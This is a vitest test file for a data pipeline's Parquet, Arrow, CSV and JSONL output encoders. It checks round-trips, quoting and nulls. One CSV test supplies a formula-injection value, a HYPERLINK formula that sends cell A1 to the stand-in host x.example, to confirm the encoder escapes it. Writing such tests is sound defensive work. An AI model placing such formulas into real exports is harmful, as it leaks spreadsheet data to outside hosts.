import { describe, expect, it } from 'vitest';
import type { Table } from 'apache-arrow';
import Papa from 'papaparse';
import * as pw from 'parquet-wasm/node';
import { arrow } from '../../../pipeline/corpus/arrow.js';
import { columnBuilder } from '../../../pipeline/corpus/columns.js';
import { FORMATS } from '../../../pipeline/corpus/formats/index.js';
import type { ColumnSpec } from '../../../pipeline/corpus/tableSchema.js';
import { arrowSchema, toRecordBatch } from '../../../pipeline/corpus/toArrow.js';

const specs: ColumnSpec[] = [
  { name: 'doc_id', type: 'utf8', nullable: false, description: '' },
  { name: 'start', type: 'int32', nullable: false, description: '' },
  { name: 'value', type: 'float64', nullable: true, description: '' },
  { name: 'text', type: 'utf8', nullable: true, description: '' },
];
const rows: [string, number, number | null, string | null][] = [
  ['a', 0, 900_000_000, 'approximately $900 million'],
  ['a', 31, null, null],
  ['Łódź/1', 7, 0.5, 'a "quoted", multi\nline text — €3bn'],
];
const schema = arrowSchema(specs);
function table(): Table {
  const b = specs.map((s) => columnBuilder(s.type));
  for (const r of rows) r.forEach((v, i) => b[i]!.push(v));
  return new arrow.Table(schema, [toRecordBatch(schema, specs, { length: rows.length, columns: b.map((x) => x.finish()) })]);
}
const asRows = (t: Table) => t.toArray().map((r) => [r.doc_id, r.start, r.value, r.text]);

describe('output formats', () => {
  it('parquet: read back by parquet-wasm, same rows, same bytes every time', () => {
    const bytes = FORMATS.parquet.encode(table(), specs);
    expect(new TextDecoder().decode(bytes.subarray(0, 4))).toBe('PAR1');
    const back = arrow.tableFromIPC(pw.readParquet(bytes).intoIPCStream());
    expect(asRows(back)).toEqual(rows);
    expect(Buffer.from(FORMATS.parquet.encode(table(), specs)).equals(Buffer.from(bytes))).toBe(true);
  });

  it('parquet: a sliced table writes only its rows', () => {
    const back = arrow.tableFromIPC(pw.readParquet(FORMATS.parquet.encode(table().slice(1, 3), specs)).intoIPCStream());
    expect(asRows(back)).toEqual(rows.slice(1));
  });

  it('arrow: an IPC file with the same rows', () => {
    expect(asRows(arrow.tableFromIPC(FORMATS.arrow.encode(table(), specs)))).toEqual(rows);
  });

  it('csv: header, RFC 4180 quoting, empty field for null', () => {
    const csv = new TextDecoder().decode(FORMATS.csv.encode(table(), specs));
    expect(csv.split('\n')[0]).toBe('doc_id,start,value,text');
    expect(csv.split('\n')[2]).toBe('a,31,,');
    const parsed = Papa.parse<string[]>(csv.trimEnd(), { header: false }).data.slice(1);
    expect(parsed[2]).toEqual(['Łódź/1', '7', '0.5', 'a "quoted", multi\nline text — €3bn']);
  });

  it('csv: text cells a spreadsheet would run as formulas get an apostrophe, numbers never (docs/csv-safety.md)', () => {
    const b = specs.map((s) => columnBuilder(s.type));
    const risky: [string, number, number | null, string | null][] = [
      ['=HYPERLINK("https://x.example/?"&A1)', -3, -12.5, '-3%'],
      ['@id', 1, 2, "'=already"],
      ['plain', 2, null, '+1'],
    ];
    for (const r of risky) r.forEach((v, i) => b[i]!.push(v));
    const t = new arrow.Table(schema, [toRecordBatch(schema, specs, { length: risky.length, columns: b.map((x) => x.finish()) })]);
    const parsed = Papa.parse<string[]>(new TextDecoder().decode(FORMATS.csv.encode(t, specs)).trimEnd(), { header: false }).data.slice(1);
    expect(parsed).toEqual([
      ['\'=HYPERLINK("https://x.example/?"&A1)', '-3', '-12.5', "'-3%"],
      ["'@id", '1', '2', "''=already"],
      ['plain', '2', '', "'+1"],
    ]);
  });

  it('jsonl: one object per row, keys in column order, null kept', () => {
    const lines = new TextDecoder().decode(FORMATS.jsonl.encode(table(), specs)).trimEnd().split('\n');
    expect(lines[1]).toBe('{"doc_id":"a","start":31,"value":null,"text":null}');
    expect(lines.map((l) => Object.values(JSON.parse(l)))).toEqual(rows);
  });
});
